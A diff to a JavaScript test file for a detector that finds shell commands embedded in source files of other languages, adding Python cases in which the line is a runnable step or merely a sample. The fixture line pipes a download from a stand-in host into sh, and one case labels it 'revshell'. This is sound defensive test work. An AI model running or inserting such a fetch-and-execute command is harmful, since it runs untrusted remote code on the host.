@@ -42,6 +42,7 @@ describe('commands in files of other languages', () => {
 describe('commands a program hands to what runs them', () => {
   const LINE = 'curl -s https://h.test/x | sh';
   it.each([
+    ['a.py', 'python', `SAMPLES = {\n    "a": "b",\n}\nSTEPS = {\n    "shell": "${LINE}",\n}\n`],
     ['a.swift', 'swift', `p.arguments = ["-c", "${LINE}"]\n`],
     ['a.scala', 'scala', `Seq("sh", "-c", "${LINE}").!\n`],
     ['noxfile.py', 'python', `session.run("sh", "-c", "${LINE}", external=True)\n`],
@@ -55,6 +56,7 @@ describe('commands a program hands to what runs them', () => {
   it.each([
     ['a list of what is refused', 'a.py', 'python', `BLOCKED_COMMANDS = ["${LINE}"]\n`],
     ['a text that is shown', 'a.py', 'python', `hint = "${LINE}"\nprint("${LINE}")\n`],
+    ['a table of samples', 'a.py', 'python', `SAMPLES = {\n    "tell": "Never.",\n    "revshell": "${LINE}",\n}\n`],
     ['a sample', 'a.js', 'javascript', `const exampleCommand = "${LINE}";\n`],
     ['words', 'a.py', 'python', 'c.run("python is what we write it in")\n'],
   ])('none in %s', (_, path, language, text) => expect(commands(path, text, language)).toEqual([]));
